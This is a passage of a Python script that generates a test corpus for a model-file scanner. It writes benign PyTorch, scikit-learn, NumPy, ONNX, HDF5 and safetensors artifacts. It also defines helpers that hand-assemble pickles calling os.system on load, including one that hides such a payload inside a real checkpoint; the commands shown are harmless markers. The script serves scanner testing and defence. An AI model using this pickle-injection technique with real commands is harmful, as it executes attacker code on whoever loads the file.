#!/usr/bin/python3
"""Makes the ModelGate model-artifact corpus: benign files written by the real libraries, files that carry
code by design, and malicious files covering the published code-execution techniques and scanner bypasses.

Run:  /usr/bin/python3 tools/make-model-corpus.py
Needs the Debian packages python3-torch python3-numpy python3-sklearn python3-joblib python3-pandas python3-h5py
python3-onnx python3-lz4 and p7zip-full (for the 7z case).

Output: tests/ModelGate.Tests/Artifacts/testdata/corpus/{benign,code,malicious}/... and manifest.tsv.
The output folder is wiped and rewritten on every run (except its hand-written README.md and .gitattributes).

Safety rules this script follows:
  * malicious pickles are assembled BY HAND from opcodes (class Asm); nothing here defines a __reduce__;
  * no malicious file is ever loaded (no pickle.load / torch.load / joblib.load / np.load(allow_pickle=True));
    they are only disassembled with pickletools.genops, which never imports or calls anything;
  * payloads are harmless: `echo modelgate-corpus`, `true`, print('modelgate-corpus'), or the marker
    `touch /tmp/modelgate-payload-ran` / open('/tmp/modelgate-payload-ran','w') so a test can assert that the
    marker never appears.
"""

import base64
import bz2
import codecs
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import pickletools
import random
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
from pathlib import Path

import h5py
import joblib
import lz4.frame
import numpy as np
import onnx
import pandas as pd
import torch
from onnx import TensorProto, helper

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "ModelGate.Tests" / "Artifacts" / "testdata" / "corpus"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
TAR_MTIME = 1704067200  # 2024-01-01T00:00:00Z
MARKER = "/tmp/modelgate-payload-ran"
TOUCH = f"touch {MARKER}"
ECHO = "echo modelgate-corpus"
PRINT = "print('modelgate-corpus')"
OPEN_MARKER = f"open('{MARKER}','w').close()"

ROWS = []


def add(rel, data, expect, fmt, technique, reference, note):
    """Writes one corpus file and records its manifest row."""
    path = OUT / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    for field in (expect, fmt, technique, reference, note):
        assert "\t" not in field and "\n" not in field, field
    assert expect in ("clean", "malicious", "flagged", "suspicious"), expect
    ROWS.append((rel, expect, fmt, technique, reference, note))


def seed():
    random.seed(0)
    np.random.seed(0)
    torch.manual_seed(0)


# ---------------------------------------------------------------------------------------------------------------
# Pickle assembler. Each method appends one opcode (pickletools names in comments); nothing is ever executed.
# ---------------------------------------------------------------------------------------------------------------
class Asm:
    def __init__(self, proto):
        self.proto = proto
        self.b = bytearray()
        if proto >= 2:
            self.b += b"\x80" + bytes([proto])  # PROTO

    def bytes(self):
        return bytes(self.b)

    def raw(self, data):
        self.b += data
        return self

    def str(self, text):
        enc = text.encode("utf-8")
        if self.proto == 0:
            assert "\n" not in text and "\\" not in text
            self.b += b"V" + text.encode("raw_unicode_escape") + b"\n"  # UNICODE
        elif self.proto >= 4 and len(enc) < 256:
            self.b += b"\x8c" + bytes([len(enc)]) + enc  # SHORT_BINUNICODE
        else:
            self.b += b"X" + struct.pack("<I", len(enc)) + enc  # BINUNICODE
        return self

    def bin(self, data):
        assert self.proto >= 3
        if len(data) < 256:
            self.b += b"C" + bytes([len(data)]) + data  # SHORT_BINBYTES
        else:
            self.b += b"B" + struct.pack("<I", len(data)) + data  # BINBYTES
        return self

    def int(self, n):
        if self.proto == 0:
            self.b += b"I%d\n" % n  # INT
        elif 0 <= n < 256:
            self.b += b"K" + bytes([n])  # BININT1
        else:
            self.b += b"J" + struct.pack("<i", n)  # BININT
        return self

    def none(self):
        self.b += b"N"
        return self

    def bool(self, v):
        if self.proto >= 2:
            self.b += b"\x88" if v else b"\x89"  # NEWTRUE / NEWFALSE
        else:
            self.b += b"I01\n" if v else b"I00\n"
        return self

    def glob(self, module, name):
        self.b += b"c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL
        return self

    def sglob(self, module, name):
        return self.str(module).str(name).raw(b"\x93")  # STACK_GLOBAL

    def callable(self, module, name):
        """GLOBAL below protocol 4, STACK_GLOBAL from 4 (what pickle itself writes)."""
        return self.sglob(module, name) if self.proto >= 4 else self.glob(module, name)

    def mark(self):
        return self.raw(b"(")

    def tuple(self, n):
        """Builds a tuple from the top n items (a MARK must precede them when TUPLE is used)."""
        if self.proto >= 2 and n <= 3:
            return self.raw([b")", b"\x85", b"\x86", b"\x87"][n])
        return self.raw(b"t")

    def value(self, v):
        """Pushes a plain literal: str, bytes, int, bool, None, list, tuple, dict."""
        if v is None:
            return self.none()
        if isinstance(v, bool):
            return self.bool(v)
        if isinstance(v, int):
            return self.int(v)
        if isinstance(v, str):
            return self.str(v)
        if isinstance(v, bytes):
            return self.bin(v)
        if isinstance(v, tuple):
            if not (self.proto >= 2 and len(v) <= 3):
                self.mark()
            for item in v:
                self.value(item)
            return self.tuple(len(v))
        if isinstance(v, list):
            self.raw(b"]")  # EMPTY_LIST
            if v:
                self.mark()
                for item in v:
                    self.value(item)
                self.raw(b"e")  # APPENDS
            return self
        if isinstance(v, dict):
            self.raw(b"}")  # EMPTY_DICT
            if v:
                self.mark()
                for k, item in v.items():
                    self.value(k)
                    self.value(item)
                self.raw(b"u")  # SETITEMS
            return self
        raise TypeError(type(v))

    def args(self, *items):
        return self.value(tuple(items))

    def reduce(self):
        return self.raw(b"R")

    def call(self, module, name, *items):
        """module.name(*items): GLOBAL/STACK_GLOBAL, argument tuple, REDUCE."""
        return self.callable(module, name).args(*items).reduce()

    def put(self, i):
        return self.raw(b"p%d\n" % i if self.proto == 0 else b"q" + bytes([i]))  # PUT / BINPUT

    def get(self, i):
        return self.raw(b"g%d\n" % i if self.proto == 0 else b"h" + bytes([i]))  # GET / BINGET

    def memoize(self):
        return self.raw(b"\x94")  # MEMOIZE

    def pop(self):
        return self.raw(b"0")

    def build(self):
        return self.raw(b"b")

    def stop(self):
        return self.raw(b".")


def check_pickle(data, pickles=1, broken=False):
    """Disassembles (never loads) a hand-made pickle: each of `pickles` streams must end in STOP and nothing
    may follow, unless `broken`, where the stream must fail to parse after at least one REDUCE."""
    stream = io.BytesIO(data)
    if broken:
        seen_reduce = False
        try:
            for op, _, _ in pickletools.genops(stream):
                seen_reduce |= op.name == "REDUCE"
        except Exception:
            assert seen_reduce, "broken pickle must fail after its payload"
            return
        raise AssertionError("pickle meant to be broken parsed cleanly")
    for _ in range(pickles):
        last = None
        for op, _, _ in pickletools.genops(stream):
            last = op.name
        assert last == "STOP", last
    assert stream.read() == b"", "trailing bytes after the last pickle"


def payload_pickle(proto=2, cmd=ECHO):
    return Asm(proto).call("os", "system", cmd).stop().bytes()


def splice_placeholder(data, placeholder, ops):
    """Replaces the opcode that pushes the string `placeholder` (BINUNICODE, protocol 2/3) with `ops`, which
    must push exactly one object. Used on files written by the real libraries with protocol <= 3 (no FRAME),
    so positions of any inline raw data stay consistent for the loader."""
    enc = placeholder.encode()
    needle = b"X" + struct.pack("<I", len(enc)) + enc
    assert data.count(needle) == 1, "placeholder must occur exactly once"
    return data.replace(needle, ops)


def ops_system(cmd, proto=2, module="os", name="system"):
    """Opcodes (no PROTO, no STOP) that push module.name(cmd)."""
    return Asm(proto).call(module, name, cmd).bytes()[2:]


# ---------------------------------------------------------------------------------------------------------------
# Zip / tar helpers (fixed timestamps)
# ---------------------------------------------------------------------------------------------------------------
def zip_members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def make_zip(members, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = compression
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def make_tar(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = TAR_MTIME
            info.mode = 0o644
            info.uname = info.gname = "modelgate"
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gzip_bytes(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def torch_bytes(obj, **kw):
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    data = buf.getvalue()
    return stable_legacy_keys(data) if kw.get("_use_new_zipfile_serialization") is False else data


def stable_legacy_keys(data):
    """The legacy format names storages by str(id(storage)) (a memory address) and writes them sorted by that
    name; renumber them in order of first use and reorder the raw storages to match, so the output is
    reproducible. The storage-keys list (the fifth pickle) is benign and made just now, so it is safe to load.
    Raw storage layout (torch/serialization.py _legacy_save): int64 element count, then the bytes; all
    storages saved this way here are float32."""
    parts, tail = legacy_split(data)
    main = parts[3]
    keys = pickle.loads(parts[4])
    blobs, pos = {}, 0
    for key in keys:
        count = struct.unpack_from("<q", tail, pos)[0]
        blobs[key] = tail[pos:pos + 8 + 4 * count]
        pos += 8 + 4 * count
    assert pos == len(tail), "unexpected storage element size"
    enc = {k: b"X" + struct.pack("<I", len(k)) + k.encode() for k in keys}
    order = sorted(keys, key=lambda k: main.index(enc[k]))
    for i, key in enumerate(order):
        main = main.replace(enc[key], b"X" + struct.pack("<I", len(str(i))) + str(i).encode())
    new_keys = pickle.dumps([str(i) for i in range(len(order))], protocol=2)
    return b"".join(parts[:3]) + main + new_keys + b"".join(blobs[k] for k in order)


def torch_file_bytes(obj, name, **kw):
    """torch.save to a real path: the archive folder is named after the file (torch >= 1.6 zip format)."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        torch.save(obj, path, **kw)
        return path.read_bytes()


def rezip_fixed_time(data):
    """Rewrites a library-made zip (np.savez) with fixed timestamps, keeping each member's compression."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            new = zipfile.ZipInfo(info.filename, ZIP_TIME)
            new.compress_type = info.compress_type
            new.external_attr = info.external_attr
            dst.writestr(new, src.read(info.filename))
    return out.getvalue()


# ---------------------------------------------------------------------------------------------------------------
# Small models
# ---------------------------------------------------------------------------------------------------------------
def tiny_modules():
    seed()
    nn = torch.nn
    return {
        "linear": nn.Linear(4, 3),
        "conv_bn": nn.Sequential(nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2), nn.ReLU()),
        "lstm": nn.LSTM(4, 3, num_layers=1),
        "embedding": nn.Embedding(10, 4),
        "transformer": nn.TransformerEncoderLayer(d_model=8, nhead=2, dim_feedforward=16),
    }


def small_state_dict_pickle_payload(cmd):
    """A real torch state dict's data.pkl, wrapped in a dict next to a payload (the payload sits inside an
    otherwise real checkpoint). Returns the torch zip members with data.pkl replaced."""
    seed()
    members = zip_members(torch_bytes(torch.nn.Linear(4, 3).state_dict()))
    out = []
    for name, data in members:
        if name.endswith("/data.pkl"):
            data = wrap_real_pickle(data, ops_system(cmd))
        out.append((name, data))
    return out


def wrap_real_pickle(real, payload_ops):
    """{'state_dict': <real protocol-2 pickle body>, 'hook': <payload>}: the real body keeps its own memo
    indices and persistent ids, the payload uses no memo."""
    assert real[:2] == b"\x80\x02" and real[-1:] == b"."
    a = Asm(2).raw(b"}").mark().str("state_dict").raw(real[2:-1]).str("hook").raw(payload_ops).raw(b"u").stop()
    data = a.bytes()
    check_pickle(data)
    return data


# ===============================================================================================================
# BENIGN
# ===============================================================================================================
def benign_torch():
    """torch.save state dicts, whole modules, tensors, optimizer state and checkpoints (zip and legacy)."""
    m = tiny_modules()
    ref = "-"
    add("benign/torch/linear_state_dict.pt", torch_file_bytes(m["linear"].state_dict(), "linear_state_dict.pt"),
        "clean", "pytorch-zip", "state-dict", ref, "torch.save to a path: archive folder named after the file (linear_state_dict/)")
    add("benign/torch/conv_bn_state_dict.pth", torch_bytes(m["conv_bn"].state_dict()),
        "clean", "pytorch-zip", "state-dict", ref, "Conv2d+BatchNorm state dict; default archive folder archive/; num_batches_tracked int64 tensor")
    add("benign/torch/pytorch_model.bin", torch_bytes(m["lstm"].state_dict()),
        "clean", "pytorch-zip", "state-dict", ref, "LSTM state dict under the Hugging Face name pytorch_model.bin")
    add("benign/torch/embedding.ckpt", torch_file_bytes({"state_dict": m["embedding"].state_dict()}, "embedding.ckpt"),
        "clean", "pytorch-zip", "state-dict", ref, "Lightning-style .ckpt with a nested state_dict")
    add("benign/torch/transformer_encoder_layer", torch_file_bytes(m["transformer"].state_dict(), "transformer_encoder_layer"),
        "clean", "pytorch-zip", "state-dict", ref, "TransformerEncoderLayer state dict, file without extension")
    add("benign/torch/linear_legacy.pt", torch_bytes(m["linear"].state_dict(), _use_new_zipfile_serialization=False),
        "clean", "pytorch-legacy", "legacy-format", ref, "pre-1.6 format: five pickles (magic, protocol, sys_info, object, storage keys) then raw storages")
    add("benign/torch/embedding_legacy.pth", torch_bytes({"emb": m["embedding"].weight.data}, _use_new_zipfile_serialization=False),
        "clean", "pytorch-legacy", "legacy-format", ref, "legacy format holding one tensor")
    seed()
    nn = torch.nn
    seq = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Dropout(0.1), nn.LayerNorm(8), nn.Linear(8, 2), nn.Softmax(dim=-1))
    add("benign/torch/sequential_module.pt", torch_bytes(seq),
        "clean", "pytorch-zip", "whole-module", ref, "torch.save of a whole nn.Sequential of built-in layers: globals are torch.nn.modules.* classes, collections.OrderedDict, torch._utils._rebuild_parameter")
    tensors = {
        "f16": torch.arange(6, dtype=torch.float16).reshape(2, 3),
        "bf16": torch.arange(4, dtype=torch.bfloat16),
        "i8": torch.tensor([-3, 0, 7], dtype=torch.int8),
        "bool": torch.tensor([True, False, True]),
        "c64": torch.tensor([1 + 2j, -1j], dtype=torch.complex64),
        "i64": torch.arange(3),
        "view": torch.arange(10.0)[2:6],
    }
    add("benign/torch/tensor_dtypes.pt", torch_bytes(tensors),
        "clean", "pytorch-zip", "tensor-dtypes", ref, "float16/bfloat16/int8/bool/complex64/int64 tensors and a view with a storage offset")
    q = torch.quantize_per_tensor(torch.tensor([0.5, 1.0, -1.5, 2.0]), scale=0.5, zero_point=2, dtype=torch.quint8)
    add("benign/torch/quantized_tensor.pt", torch_bytes({"q": q}),
        "clean", "pytorch-zip", "quantized-tensor", ref, "per-tensor affine quint8 tensor: torch._utils._rebuild_qtensor and torch.per_tensor_affine")
    seed()
    model = nn.Linear(4, 2)
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.ones(1, 4)).sum().backward()
    opt.step()
    add("benign/torch/optimizer_state_dict.pt", torch_bytes(opt.state_dict()),
        "clean", "pytorch-zip", "optimizer-state", ref, "Adam state dict (step, exp_avg, exp_avg_sq, param_groups)")
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=2, gamma=0.5)
    np.random.seed(0)
    random.seed(0)
    checkpoint = {
        "epoch": 3,
        "model": model.state_dict(),
        "optimizer": opt.state_dict(),
        "scheduler": sched.state_dict(),
        "torch_rng_state": torch.get_rng_state(),
        "numpy_rng_state": np.random.get_state(),
        "python_rng_state": random.getstate(),
        "best_metric": 0.875,
        "args": {"lr": 1e-3, "layers": [4, 2], "name": "tiny"},
    }
    add("benign/torch/checkpoint.pt", torch_bytes(checkpoint),
        "clean", "pytorch-zip", "training-checkpoint", ref, "epoch/model/optimizer/scheduler/rng states: numpy.core.multiarray._reconstruct, numpy.ndarray, numpy.dtype, torch.ByteStorage")


def sklearn_models():
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import PCA
    from sklearn.ensemble import GradientBoostingClassifier, IsolationForest, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression, SGDClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.RandomState(0)
    X = rng.rand(24, 3)
    y = (X[:, 0] > 0.5).astype(int)
    df = pd.DataFrame({"color": ["red", "green", "blue"] * 8, "size": rng.rand(24), "n": rng.randint(0, 5, 24)})
    texts = ["good model", "bad model", "good data", "bad data"] * 3
    ty = [1, 0, 1, 0] * 3
    models = {
        "scaler_logreg": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y),
        "columns_onehot_forest": Pipeline([
            ("prep", ColumnTransformer([("cat", OneHotEncoder(handle_unknown="ignore"), ["color"])], remainder="passthrough")),
            ("clf", RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0)),
        ]).fit(df, y),
        "tfidf_sgd": Pipeline([("tfidf", TfidfVectorizer()), ("clf", SGDClassifier(random_state=0))]).fit(texts, ty),
        "gradient_boosting": GradientBoostingClassifier(n_estimators=3, max_depth=2, random_state=0).fit(X, y),
        "kmeans": KMeans(n_clusters=2, n_init=1, random_state=0).fit(X),
        "pca": PCA(n_components=2).fit(X),
        "svc": SVC(probability=False).fit(X, y),
        "decision_tree": DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y),
        "mlp": MLPClassifier(hidden_layer_sizes=(4,), max_iter=20, random_state=0).fit(X, y),
        "isolation_forest": IsolationForest(n_estimators=3, random_state=0).fit(X),
    }
    return models


def joblib_bytes(obj, suffix=".joblib", **kw):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / ("x" + suffix)
        joblib.dump(obj, path, **kw)
        return path.read_bytes()


def benign_sklearn():
    """scikit-learn estimators via joblib.dump (plain and every compressor) and pickle.dump protocols 0-5."""
    import warnings
    warnings.filterwarnings("ignore")
    models = sklearn_models()
    for name, model in models.items():
        add(f"benign/sklearn/{name}.joblib", joblib_bytes(model), "clean", "joblib", "sklearn-estimator", "-",
            f"joblib.dump of {type(model).__name__}: sklearn.* classes, numpy reconstruct, joblib.numpy_pickle.NumpyArrayWrapper with inline array bytes")
    pipe = models["scaler_logreg"]
    add("benign/sklearn/scaler_logreg_compress3.joblib", joblib_bytes(pipe, compress=3), "clean", "joblib", "joblib-compressed", "-",
        "compress=3: zlib stream (joblib default compressor)")
    for comp, ext in (("zlib", ".z"), ("gzip", ".gz"), ("bz2", ".bz2"), ("xz", ".xz"), ("lzma", ".lzma"), ("lz4", ".lz4")):
        add(f"benign/sklearn/scaler_logreg_{comp}.joblib", joblib_bytes(pipe, compress=(comp, 3)), "clean", "joblib", "joblib-compressed", "-",
            f"joblib compressor {comp}: the scanner must decompress it to see the (benign) pickle")
    forest = models["columns_onehot_forest"]
    for proto in range(6):
        add(f"benign/sklearn/onehot_forest_protocol{proto}.pkl", pickle.dumps(forest, protocol=proto), "clean", "pickle", "sklearn-pickle", "-",
            f"pickle.dump protocol {proto} of a ColumnTransformer+RandomForest pipeline (object arrays, copyreg._reconstructor at low protocols)")


def benign_pandas():
    """DataFrames with mixed dtypes and a MultiIndex, pickled by pandas and by joblib."""
    idx = pd.MultiIndex.from_product([["a", "b"], [1, 2, 3]], names=["group", "item"])
    df = pd.DataFrame({
        "i": np.arange(6, dtype=np.int64),
        "f": np.linspace(0, 1, 6),
        "s": ["x", "y", "z", "x", "y", "z"],
        "cat": pd.Categorical(["lo", "hi", "lo", "hi", "lo", "hi"]),
        "when": pd.date_range("2024-01-01", periods=6, freq="D"),
        "when_tz": pd.date_range("2024-01-01", periods=6, freq="H", tz="Europe/Paris"),
    }, index=idx)
    for proto in (2, 4, 5):
        buf = io.BytesIO()
        df.to_pickle(buf, compression=None, protocol=proto)
        add(f"benign/pandas/frame_protocol{proto}.pkl", buf.getvalue(), "clean", "pickle", "pandas-dataframe", "-",
            f"DataFrame.to_pickle protocol {proto}: pandas.core.*, pandas._libs.*, numpy reconstruct, pytz/zoneinfo timezone")
    add("benign/pandas/frame.joblib", joblib_bytes(df), "clean", "joblib", "pandas-dataframe", "-", "the same DataFrame through joblib.dump")


def npy_bytes(arr, allow_pickle=False):
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return buf.getvalue()


def benign_numpy():
    """.npy of several dtypes, an object array of plain ints/strs, .npz plain and compressed."""
    arrays = {
        "float64": np.linspace(0, 1, 8).reshape(2, 4),
        "int32": np.arange(6, dtype=np.int32),
        "bool": np.array([True, False, True]),
        "structured": np.array([(1, 2.5, b"ab"), (2, 3.5, b"cd")], dtype=[("id", "<i4"), ("score", "<f8"), ("tag", "S2")]),
        "unicode": np.array(["alpha", "beta", "γάμμα"]),
        "datetime": np.array(["2024-01-01", "2024-06-30"], dtype="datetime64[D]"),
        "fortran": np.asfortranarray(np.arange(6, dtype=np.float32).reshape(2, 3)),
    }
    for name, arr in arrays.items():
        add(f"benign/numpy/{name}.npy", npy_bytes(arr), "clean", "numpy", "npy-array", "-", f"np.save of a {arr.dtype} array; header dict then raw data")
    obj = np.array([1, "two", 3, "four"], dtype=object)
    add("benign/numpy/object_plain.npy", npy_bytes(obj, allow_pickle=True), "clean", "numpy", "npy-object-array", "-",
        "object dtype: the body is a protocol-3 pickle using only numpy.core.multiarray._reconstruct, numpy.ndarray, numpy.dtype")
    buf = io.BytesIO()
    np.savez(buf, weights=arrays["float64"], ids=arrays["int32"])
    add("benign/numpy/savez.npz", rezip_fixed_time(buf.getvalue()), "clean", "numpy-npz", "npz", "-", "np.savez: stored zip of .npy members")
    buf = io.BytesIO()
    np.savez_compressed(buf, weights=arrays["float64"], names=arrays["unicode"])
    add("benign/numpy/savez_compressed.npz", rezip_fixed_time(buf.getvalue()), "clean", "numpy-npz", "npz", "-", "np.savez_compressed: deflated zip of .npy members")


def benign_joblib():
    """joblib dicts of several numpy arrays: raw array frames inline after each NumpyArrayWrapper."""
    rng = np.random.RandomState(0)
    data = {
        "emb": rng.rand(64, 16).astype(np.float32),
        "ids": np.arange(300, dtype=np.int64),
        "mask": rng.rand(100) > 0.5,
        "half": rng.rand(33).astype(np.float16),
    }
    add("benign/joblib/arrays.joblib", joblib_bytes(data), "clean", "joblib", "joblib-arrays", "-",
        "protocol 4/5 with FRAME; each array's bytes follow its NumpyArrayWrapper BUILD, after a 0x03-style alignment padding (numpy_array_alignment_bytes=16)")
    add("benign/joblib/arrays_protocol2.joblib", joblib_bytes({"w": rng.rand(10, 3), "b": np.zeros(3, np.int8)}, protocol=2), "clean", "joblib", "joblib-arrays", "-",
        "protocol 2 (no FRAME) joblib of float64 and int8 arrays")


def onnx_mlp(name, external=None):
    rng = np.random.RandomState(0)
    w1 = rng.rand(4, 8).astype(np.float32)
    w2 = rng.rand(8, 2).astype(np.float32)
    inits = [helper.make_tensor("W1", TensorProto.FLOAT, w1.shape, w1.flatten().tolist()),
             helper.make_tensor("W2", TensorProto.FLOAT, w2.shape, w2.flatten().tolist())]
    nodes = [helper.make_node("MatMul", ["x", "W1"], ["h"]), helper.make_node("Relu", ["h"], ["r"]),
             helper.make_node("MatMul", ["r", "W2"], ["y"])]
    graph = helper.make_graph(nodes, name, [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])], inits)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], producer_name="modelgate-corpus")
    onnx.checker.check_model(model)
    return model, [w1, w2]


def to_external(model, location_for, blobs):
    """Moves every initializer to external data (TensorProto.data_location=EXTERNAL, external_data entries
    location/offset/length per onnx/onnx.proto3) without touching the file system."""
    offset = 0
    for init, blob in zip(model.graph.initializer, blobs):
        raw = blob.tobytes()
        init.ClearField("float_data")
        init.data_location = TensorProto.EXTERNAL
        del init.external_data[:]
        for k, v in (("location", location_for(init.name)), ("offset", str(offset)), ("length", str(len(raw)))):
            e = init.external_data.add()
            e.key, e.value = k, v
        offset += len(raw)
    return model


def benign_onnx():
    """A small MLP, one with external data beside it, one with an If subgraph (onnx.helper)."""
    model, _ = onnx_mlp("mlp")
    add("benign/onnx/mlp.onnx", model.SerializeToString(), "clean", "onnx", "onnx-graph", "-", "MatMul/Relu/MatMul, default domain, opset 13, inline initializers")
    model, blobs = onnx_mlp("mlp_external")
    to_external(model, lambda _: "mlp_external.onnx.data", blobs)
    add("benign/onnx/mlp_external.onnx", model.SerializeToString(), "clean", "onnx", "onnx-external-data", "-",
        "initializers in the side file mlp_external.onnx.data (relative location, same folder)")
    add("benign/onnx/mlp_external.onnx.data", b"".join(b.tobytes() for b in blobs), "clean", "raw", "onnx-external-data-file", "-",
        "raw float32 bytes referenced by mlp_external.onnx: not a model, must not be flagged")
    then_g = helper.make_graph([helper.make_node("Identity", ["x"], ["t"])], "then", [], [helper.make_tensor_value_info("t", TensorProto.FLOAT, [1])])
    else_g = helper.make_graph([helper.make_node("Neg", ["x"], ["e"])], "else", [], [helper.make_tensor_value_info("e", TensorProto.FLOAT, [1])])
    graph = helper.make_graph([helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)], "if_model",
                              [helper.make_tensor_value_info("cond", TensorProto.BOOL, []), helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], producer_name="modelgate-corpus")
    onnx.checker.check_model(model)
    add("benign/onnx/if_subgraph.onnx", model.SerializeToString(), "clean", "onnx", "onnx-subgraph", "-", "If node whose then/else branches are GraphProto attributes")


def h5_bytes(build):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "f.h5"
        with h5py.File(path, "w") as f:
            build(f)
        return path.read_bytes()


def keras2_dense_layer(name, units, input_dim=None):
    cfg = {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": "relu", "use_bias": True,
           "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
           "bias_initializer": {"class_name": "Zeros", "config": {}},
           "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
           "kernel_constraint": None, "bias_constraint": None}
    if input_dim:
        cfg["batch_input_shape"] = [None, input_dim]
    return {"class_name": "Dense", "config": cfg}


def keras2_h5(layers, weights):
    """Keras 2 legacy HDF5 shape (keras/saving/legacy/hdf5_format.py): root attrs keras_version, backend,
    model_config (JSON), training_config (JSON); group model_weights with layer_names and per-layer weight_names."""
    model_config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}

    def build(f):
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.13.1"
        f.attrs["model_config"] = json.dumps(model_config)
        f.attrs["training_config"] = json.dumps({"loss": "mse", "metrics": None, "weighted_metrics": None, "loss_weights": None,
                                                 "optimizer_config": {"class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001}}})
        mw = f.create_group("model_weights")
        mw.attrs["backend"] = "tensorflow"
        mw.attrs["keras_version"] = "2.13.1"
        mw.attrs["layer_names"] = np.array([n.encode() for n in weights], dtype="S")
        for lname, ws in weights.items():
            g = mw.create_group(lname)
            g.attrs["weight_names"] = np.array([f"{lname}/{w}:0".encode() for w in ws], dtype="S")
            inner = g.create_group(lname)
            for w, arr in ws.items():
                inner.create_dataset(f"{w}:0", data=arr)
    return h5_bytes(build)


def benign_hdf5():
    """A Keras-2-shaped .h5 (made with h5py) and a plain h5py dataset file."""
    rng = np.random.RandomState(0)
    layers = [keras2_dense_layer("dense", 8, 4), keras2_dense_layer("dense_1", 2)]
    weights = {"dense": {"kernel": rng.rand(4, 8).astype(np.float32), "bias": np.zeros(8, np.float32)},
               "dense_1": {"kernel": rng.rand(8, 2).astype(np.float32), "bias": np.zeros(2, np.float32)}}
    add("benign/hdf5/keras2_sequential.h5", keras2_h5(layers, weights), "clean", "hdf5", "keras2-h5", "-",
        "Keras 2 Sequential of Dense layers: model_config JSON has only keras classes")

    def build(f):
        f.create_dataset("features", data=rng.rand(10, 3))
        f.create_dataset("labels", data=np.arange(10, dtype=np.int32))
        f["features"].attrs["units"] = "meters"
    add("benign/hdf5/plain_dataset.h5", h5_bytes(build), "clean", "hdf5", "hdf5-data", "-", "plain h5py datasets, no Keras attributes")


# safetensors dtype enum order in huggingface/safetensors (safetensors/src/tensor.rs `enum Dtype`); the Rust
# writer sorts tensors by dtype descending then name, and writes `__metadata__` first.
ST_DTYPES = ["BOOL", "U8", "I8", "F8_E5M2", "F8_E4M3", "I16", "U16", "F16", "BF16", "I32", "U32", "F32", "F64", "I64", "U64"]


def safetensors_bytes(tensors, metadata=None, override=None):
    """safetensors per https://github.com/huggingface/safetensors#format: u64 LE header length N, N bytes of
    compact JSON padded with spaces to a multiple of 8, then contiguous data. `override` lets hostile cases
    replace data_offsets."""
    order = sorted(tensors, key=lambda n: (-ST_DTYPES.index(tensors[n][0]), n))
    header = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    data = b""
    for name in order:
        dtype, shape, raw = tensors[name]
        offsets = [len(data), len(data) + len(raw)]
        if override and name in override:
            offsets = override[name]
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": offsets}
        data += raw
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def bf16(values):
    return np.array(values, np.float32).view(np.uint32).__rshift__(16).astype("<u2").tobytes()


def st_tensors():
    return {
        "linear.weight": ("F32", [2, 3], np.arange(6, dtype="<f4").tobytes()),
        "linear.bias": ("F16", [2], np.array([0.5, -1], "<f2").tobytes()),
        "embed.weight": ("BF16", [2, 2], bf16([1, 2, 3, 4])),
        "position_ids": ("I64", [1, 4], np.arange(4, dtype="<i8").tobytes()),
        "mask": ("BOOL", [3], bytes([1, 0, 1])),
    }


def benign_safetensors():
    """Hand-written exactly per the safetensors spec (Debian has no python3-safetensors)."""
    add("benign/safetensors/model.safetensors", safetensors_bytes(st_tensors(), {"format": "pt"}), "clean", "safetensors", "safetensors", "-",
